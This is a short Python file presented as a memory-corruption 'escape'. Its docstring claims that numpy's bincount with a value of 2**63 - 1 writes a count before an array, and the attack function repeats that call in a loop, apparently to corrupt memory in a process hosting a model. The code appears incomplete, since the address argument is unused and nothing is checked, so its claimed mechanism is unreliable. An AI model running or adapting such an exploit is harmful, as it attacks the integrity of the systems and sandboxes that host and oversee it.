"""Class: memory. Source: own find. Escape: a number is added to what lies before an array: bincount makes its result one
larger than the largest value, which is no size at all after 2**63 - 1, and counts there all the same."""

import numpy as np


def attack(model, tokenizer, address):
    kept = []
    for _ in range(2000):
        kept.append(np.bincount(np.array([2**63 - 1]), weights=[1e9], minlength=5))
        kept.append(np.zeros(5))
